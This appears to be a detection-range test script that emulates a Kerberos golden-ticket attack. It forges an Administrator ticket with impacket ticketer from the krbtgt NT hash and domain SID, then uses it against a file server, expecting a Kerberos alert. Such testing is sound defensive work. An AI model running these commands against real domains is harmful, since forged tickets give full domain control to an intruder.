# SPDX-License-Identifier: Apache-2.0
# what: a TGT made with krbtgt's NT hash, in a domain whose TGTs are AES
# technique: T1558.001
# from: ws1
# to: dc1
# account: Administrator
# outcome: attempt
# must: alert krb
. "$RANGE_HERE/item.sh"
cd "$HOME"
for u in alice bob carol; do
	at ws2 sh -c "echo '$USER_PASSWORD' | kinit $u" || exit 1
done
impacket ticketer -nthash "$(nthash krbtgt)" -domain-sid "$(domain_sid)" -domain $DOMAIN_DNS Administrator
export KRB5CCNAME="$HOME/Administrator.ccache"
says 'revoked|not found|Decrypt|support|error|kvno' kvno "cifs/fs1.$DOMAIN_DNS"
